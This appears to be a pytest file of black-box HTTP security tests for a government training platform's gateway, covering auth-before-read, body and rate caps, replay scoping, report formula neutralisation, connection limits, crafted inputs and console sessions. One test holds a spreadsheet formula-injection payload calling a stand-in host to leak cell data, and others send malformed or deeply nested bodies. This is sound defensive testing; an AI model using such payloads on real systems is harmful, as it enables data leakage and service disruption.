"""Trust at the door (issue 16, items 2, 3, 4, 7, 8 and 10), black-box over HTTP: who asks is known
before anything of the body is read, bodies and rates are capped, a replay answers nobody but the
caller it answered first, reports carry no live formulas, crafted input gets a 4xx in the error
shape, and the console's session can be ended for good."""
import base64
import io
import json
import socket
import time
from urllib.parse import urlsplit

import eventlet
import pytest
import requests
from nameko.rpc import rpc
from openpyxl import load_workbook

from tests.helpers import SIU, assert_error, iso_day, offering, onboard, sign, wait_for


def raw_post(base_url, path, body, headers=None, chunked=False):
    """A POST as bytes on a socket: what a client that lies about its size, or streams, sends."""
    host, port = urlsplit(base_url).hostname, urlsplit(base_url).port
    lines = ["POST {} HTTP/1.1".format(path), "Host: {}:{}".format(host, port), "Connection: close"]
    lines += ["{}: {}".format(k, v) for k, v in (headers or {}).items()]
    if chunked:
        lines.append("Transfer-Encoding: chunked")
        payload = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 65536]), body[i:i + 65536])
                           for i in range(0, len(body), 65536)) + b"0\r\n\r\n"
    else:
        lines.append("Content-Length: {}".format(len(body)))
        payload = body
    with socket.create_connection((host, port), timeout=30) as sock:
        sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
        try:
            sock.sendall(payload)
        except OSError:
            pass  # the gateway answered and closed before taking it all: that is the point
        answer = b""
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    head, _, rest = answer.partition(b"\r\n\r\n")
    return int(head.split()[1]), head.decode("latin-1"), rest


# -- 2. the caller first, and bodies capped while they are read ----------------------------------

def test_a_file_sent_without_a_token_is_refused_before_it_is_read(operator, app_config, db):
    staff = b"full_name,email,phone,unit_code,audience_group\n" + b"A,a@x.vn,0903000001,Q1,district\n" * 100
    status, _, body = raw_post(app_config["GATEWAY_URL"], "/officials/import", staff, {"Content-Type": "text/csv"})
    assert status == 401 and json.loads(body)["error"]["code"] == "unauthenticated"
    status, _, body = raw_post(app_config["GATEWAY_URL"], "/partners", b'{"code": "X"}',
                               {"Idempotency-Key": "k-1", "Content-Type": "application/json"})
    assert status == 401
    assert db("gateway").idempotency.count_documents({}) == 0  # nothing kept for nobody


@pytest.mark.parametrize("chunked", [False, True])
def test_a_body_over_the_cap_is_refused_with_413_while_it_is_read(operator, app_config, chunked):
    app_config["HTTP"]["max_body_bytes"] = 4096
    body = json.dumps(dict(SIU, name="x" * 10000)).encode()
    status, head, answer = raw_post(app_config["GATEWAY_URL"], "/partners", body,
                                    {"Authorization": "Bearer " + app_config["OPERATOR_TOKEN"],
                                     "Content-Type": "application/json"}, chunked=chunked)
    assert status == 413, answer
    assert json.loads(answer)["error"]["code"] == "payload_too_large"
    small = operator.post("/partners", SIU)
    assert small.status_code == 201, small.text


def test_imports_have_their_own_cap_a_row_cap_and_a_bounded_error_list(programme, app_config, monkeypatch):
    import nameko
    header = "full_name,email,phone,unit_code,audience_group\n"
    bad = "".join("Cán bộ {0},not-an-email-{0},0903{0:06d},Q1,district\n".format(n) for n in range(300))
    answer = programme.operator.post("/officials/import", data=(header + bad).encode(),
                                     headers={"Content-Type": "text/csv"})
    assert answer.status_code == 200, answer.text
    assert answer.json()["errors_total"] == 300 and len(answer.json()["errors"]) == 200
    monkeypatch.setitem(nameko.config, "IMPORT_MAX_ROWS", 10)
    good = "".join("Cán bộ {0},canbo{0}@q1.gov.vn,0904{0:06d},Q1,district\n".format(n) for n in range(11))
    too_long = programme.operator.post("/officials/import", data=(header + good).encode(),
                                       headers={"Content-Type": "text/csv"})
    assert_error(too_long, 413, "payload_too_large")
    app_config["HTTP"]["max_import_bytes"] = 1000
    too_big = programme.operator.post("/officials/import", data=(header + good * 10).encode(),
                                      headers={"Content-Type": "text/csv"})
    assert_error(too_big, 413, "payload_too_large")


# -- 3. a replay is answered only to the caller it answered first ---------------------------------

def test_an_idempotent_replay_runs_authentication_again_and_stays_with_its_caller(operator, db):
    partner, siu = onboard(operator)
    sign(operator, partner["id"], iso_day(-30), iso_day(300))
    other, other_client = onboard(operator, dict(SIU, code="HUB", name="Trường Đại học Ngân hàng TP.HCM"))
    headers = {"Idempotency-Key": "offering-2026-12"}
    first = siu.post("/offerings", offering(), headers=headers)
    assert first.status_code == 201, first.text
    replay = siu.post("/offerings", offering(), headers=headers)
    assert replay.status_code == 201 and replay.headers["Idempotent-Replay"] == "true"
    assert replay.json()["id"] == first.json()["id"]
    # Another partner with the same key and body is another caller: its own request, its own answer.
    theirs = other_client.post("/offerings", offering(), headers=headers)
    assert_error(theirs, 422, "no_active_agreement")
    # A revoked key replays nothing.
    key_id = operator.get("/partners/" + partner["id"]).json()["api_keys"][0]["key_id"]
    assert operator.post("/partners/{}/keys/{}/revoke".format(partner["id"], key_id)).status_code == 200
    assert_error(siu.post("/offerings", offering(), headers=headers), 401, "unauthenticated")


# -- 4. no live formula in a report -----------------------------------------------------------------

def test_a_title_that_looks_like_a_formula_is_text_in_csv_and_xlsx(programme, db):
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
    offering_id = programme.siu.post("/offerings", {
        "title": title, "audience_groups": ["ward_commune"], "starts_from": iso_day(1), "ends_by": iso_day(60)}).json()["id"]
    wait_for(lambda: db("scheduling").offerings.find_one({"_id": offering_id}))
    session = programme.known_session(offering_id=offering_id)
    programme.registered(session, programme.official())
    csv_text = programme.operator.get("/reports/session?format=csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in csv_text and "\n=HYPERLINK" not in csv_text and ",=HYPERLINK" not in csv_text
    book = load_workbook(io.BytesIO(programme.operator.get("/reports/session?format=xlsx").content))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value == title]
    assert cells and all(cell.data_type == "s" for cell in cells)


# -- 7. limits, caches and sockets --------------------------------------------------------------------

@pytest.fixture
def strict_limits(app_config):
    app_config["HTTP"].update(rate_per_client=2, burst_per_client=5, rate_per_token=2, burst_per_token=5)


def test_a_client_over_its_rate_gets_429_with_retry_after(strict_limits, anonymous):
    answers = [anonymous.get("/alive") for _ in range(8)]
    refused = [a for a in answers if a.status_code == 429]
    assert [a.status_code for a in answers[:5]] == [200] * 5 and refused
    assert refused[0].json()["error"]["code"] == "too_many_requests"
    assert int(refused[0].headers["Retry-After"]) >= 1


def test_a_junk_token_costs_one_lookup_a_minute(operator, anonymous, monkeypatch):
    from services.partners.service import PartnersService
    looked_up = []
    original = PartnersService.authenticate

    def counting(self, api_key):
        looked_up.append(api_key)
        return original(self, api_key)
    monkeypatch.setattr(PartnersService, "authenticate", counting)
    junk = anonymous.as_("tok_" + "x" * 40)
    for _ in range(5):
        assert_error(junk.get("/partners"), 401, "unauthenticated")
    assert len(looked_up) == 1


def test_the_api_document_is_built_once(anonymous, monkeypatch):
    from services.partners.service import PartnersService
    asked = []
    original = PartnersService.api_schemas

    def counting(self):
        asked.append(1)
        return original(self)
    monkeypatch.setattr(PartnersService, "api_schemas", counting)
    first = anonymous.get("/openapi.json").json()
    assert anonymous.get("/openapi.json").json() == first
    assert len(asked) <= 1  # none when an earlier test of this deployment built it


@pytest.fixture
def tight_server(app_config):
    """Read when the gateway starts: this fixture comes before `system` in the test's arguments."""
    app_config["HTTP"].update(socket_timeout=2, max_connections=2, keepalive_seconds=1)


def test_idle_connections_time_out_and_connections_are_bounded(tight_server, system, app_config):
    host, port = urlsplit(app_config["GATEWAY_URL"]).hostname, urlsplit(app_config["GATEWAY_URL"]).port
    idle = [socket.create_connection((host, port)) for _ in range(2)]
    asking = socket.create_connection((host, port))
    try:
        # Both slots are taken by clients that send nothing: the third connection waits, unanswered...
        asking.sendall(b"GET /alive HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        asking.settimeout(0.5)
        with pytest.raises(socket.timeout):
            asking.recv(1)
        # ...until the gateway closes the idle ones; then it is answered.
        asking.settimeout(10)
        assert asking.recv(12).startswith(b"HTTP/1.1 200")
        for sock in idle:
            sock.settimeout(5)
            assert sock.recv(1) == b""  # closed by the gateway
    finally:
        for sock in idle + [asking]:
            sock.close()


@pytest.fixture
def kept_alive_server(app_config):
    app_config["HTTP"].update(socket_timeout=30, max_connections=2, keepalive_seconds=1)


def test_a_kept_alive_connection_that_goes_quiet_frees_its_slot_after_the_keepalive(kept_alive_server, system,
                                                                                    app_config):
    """2,000 callers that each kept their connection open once held all 1,000 slots for the 30 s
    socket timeout, and the next callers waited unanswered: a quiet kept-alive connection now
    frees its slot after `keepalive_seconds` (1 here), and its answer says so."""
    host, port = urlsplit(app_config["GATEWAY_URL"]).hostname, urlsplit(app_config["GATEWAY_URL"]).port
    kept = [socket.create_connection((host, port)) for _ in range(2)]
    try:
        for sock in kept:
            sock.settimeout(5)
            sock.sendall(b"GET /alive HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n")  # as requests sends
            head = sock.recv(4096)
            assert head.startswith(b"HTTP/1.1 200") and b"Keep-Alive: timeout=1" in head, head
        started = time.monotonic()
        # Both slots are held by connections that asked once and went quiet; a third caller is
        # answered once the gateway has closed them, long before the 30 s socket timeout.
        answer = requests.get(app_config["GATEWAY_URL"] + "/alive", timeout=25)
        assert answer.status_code == 200 and time.monotonic() - started < 15
        for sock in kept:
            assert sock.recv(1) == b""  # closed by the gateway
    finally:
        for sock in kept:
            sock.close()


# -- 8. crafted input: a 4xx in the error shape, never a 500 --------------------------------------------

def cursor_of(values):
    return base64.urlsafe_b64encode(json.dumps(values).encode()).decode().rstrip("=")


@pytest.mark.parametrize("path, status, code", [
    ("/sessions?month=9999-12", 422, "invalid_fields"),
    ("/sessions?month=0000-01", 422, "invalid_fields"),
    ("/notifications?cursor=" + cursor_of([{"$date": 10 ** 30}, "x"]), 422, "invalid_fields"),
    ("/notifications?cursor=" + cursor_of([10 ** 30, "x"]), 422, "invalid_fields"),
    ("/officials?cursor=%C2%B2", 422, "invalid_fields"),
    ("/partners?cursor=" + cursor_of(["a", "b", "c"]), 422, "invalid_fields"),
    ("/no/such/route", 404, "not_found"),
    ("/partners/%C4%80", 404, "not_found"),
])
def test_crafted_queries_and_paths_get_a_4xx_in_the_error_shape(operator, path, status, code):
    answer = operator.get(path)
    assert_error(answer, status, code)


def test_an_id_outside_latin_1_never_reaches_a_header_as_it_is(operator):
    """It used to end the connection without an answer (the id went into Content-Disposition)."""
    answer = operator.get("/partners/%C4%80/calendar.ics")
    assert answer.status_code in (200, 404)
    if answer.status_code == 200:
        assert "filename*=UTF-8''%C4%80.ics" in answer.headers["Content-Disposition"]


def test_a_wrong_method_is_405_with_allow(operator):
    answer = operator.request("DELETE", "/partners")
    assert_error(answer, 405, "method_not_allowed")
    assert "GET" in answer.headers["Allow"] and "POST" in answer.headers["Allow"]


@pytest.mark.parametrize("body", [
    b"[" * 100000,
    b'{"a": ' * 500 + b"1" + b"}" * 500,
    json.dumps({"code": "ABC", "name": "\ud800", "kind": "university", "contact_email": "a@b.vn"}).encode(),
    '{"code": "ABC", "name": "x", "kind": "university", "contact_email": "a@b.vn", "\\udfff": 1}'.encode(),
    b"\xff\xfe{",
])
def test_crafted_bodies_are_400_malformed_json(operator, app_config, body, db):
    answer = requests.post(app_config["GATEWAY_URL"] + "/partners", data=body, timeout=30, headers={
        "Authorization": "Bearer " + app_config["OPERATOR_TOKEN"], "Content-Type": "application/json"})
    assert_error(answer, 400, "malformed_json")
    assert db("partners").partners.count_documents({}) == 0


# -- 10. the console's session, and the headers of every answer -------------------------------------------

def test_every_answer_says_nosniff_and_answers_with_keys_are_not_cached(operator, anonymous):
    for answer in (operator.post("/partners", SIU), anonymous.get("/alive"), anonymous.get("/nothing"),
                   anonymous.get("/console/login"), anonymous.get("/openapi.json")):
        assert answer.headers["X-Content-Type-Options"] == "nosniff", answer.url
    created = operator.post("/partners", dict(SIU, code="HUB"))
    assert created.headers["Cache-Control"] == "no-store" and created.json()["api_key"]


def console_login(base, token):
    browser = requests.Session()
    answer = browser.post(base + "/console/login", data={"token": token}, allow_redirects=False)
    return browser, answer


def test_logout_ends_the_session_for_every_copy_of_its_cookie(system, app_config):
    base = app_config["GATEWAY_URL"]
    browser, answer = console_login(base, app_config["OPERATOR_TOKEN"])
    assert answer.status_code == 303
    copied = dict(browser.cookies)
    page = browser.get(base + "/console/sessions")
    assert page.status_code == 200 and 'name="csrf"' in page.text
    csrf = page.text.split('name="csrf" value="', 1)[1].split('"', 1)[0]
    assert browser.post(base + "/console/logout", data={"csrf": csrf}, allow_redirects=False).status_code == 303
    stolen = requests.get(base + "/console/sessions", cookies=copied, allow_redirects=False)
    assert stolen.status_code == 303 and stolen.headers["Location"].endswith("/console/login")


def test_console_logins_are_throttled_per_client(system, app_config):
    base = app_config["GATEWAY_URL"]
    for _ in range(5):
        assert console_login(base, "wrong")[1].status_code == 401
    _, refused = console_login(base, app_config["OPERATOR_TOKEN"])
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) > 0


def test_the_console_cookie_is_secure_when_served_over_https(system, app_config, monkeypatch):
    import nameko
    monkeypatch.setitem(nameko.config, "PUBLIC_URL", "https://daotao-ai.example.gov.vn")
    _, answer = console_login(app_config["GATEWAY_URL"], app_config["OPERATOR_TOKEN"])
    assert answer.status_code == 303
    cookie = answer.headers["Set-Cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Strict" in cookie


def test_the_import_tool_reads_its_token_from_the_environment(programme, app_config, tmp_path, monkeypatch, capsys):
    from services.registration import import_cli
    path = tmp_path / "staff.csv"
    path.write_text("full_name,email,phone,unit_code,audience_group\nCán bộ A,a.can@q1.gov.vn,0905000001,Q1,district\n",
                    encoding="utf-8")
    with pytest.raises(SystemExit):
        import_cli.main([str(path), "--url", app_config["GATEWAY_URL"], "--token", app_config["OPERATOR_TOKEN"]])
    monkeypatch.setenv("TRAINOPS_TOKEN", app_config["OPERATOR_TOKEN"])
    assert import_cli.main([str(path), "--url", app_config["GATEWAY_URL"]]) == 0


class SlowRegistration:
    """Registration taking 1.5 s over everything: the gateway's deadlines, against a service that is slow."""
    name = "registration"

    @rpc
    def list_officials(self, actor, query):
        eventlet.sleep(1.5)
        return {"items": [], "next_cursor": None}

    @rpc
    def import_officials(self, actor, text):
        eventlet.sleep(1.5)
        return {"created": 0, "updated": 0, "unchanged": text.count("\n"), "errors": []}


def test_a_staff_list_import_waits_longer_for_the_service_than_other_requests(container_factory, app_config,
                                                                               monkeypatch):
    """A service that does not answer in time gets the caller a 503; an import (up to 100,000 rows, about
    30 s) has a deadline of its own, so a large list is not cut off at the deadline of a look-up."""
    from gateway import entrypoints
    from gateway.service import GatewayService
    monkeypatch.setitem(entrypoints.TIMEOUTS, "rpc", 0.5)
    monkeypatch.setitem(entrypoints.TIMEOUTS, "import", 10)
    for cls in (SlowRegistration, GatewayService):
        container_factory(cls).start()
    base, auth = app_config["GATEWAY_URL"], {"Authorization": "Bearer " + app_config["OPERATOR_TOKEN"]}
    assert_error(requests.get(base + "/officials", headers=auth, timeout=30), 503, "service_unavailable")
    staff_list = "full_name,email,phone,unit_code,audience_group\nA,a@q1.gov.vn,0903000111,Q1,ward_commune\n"
    imported = requests.post(base + "/officials/import", data=staff_list, timeout=30,
                             headers=dict(auth, **{"Content-Type": "text/csv"}))
    assert imported.status_code == 200 and imported.json()["unchanged"] == 2, imported.text
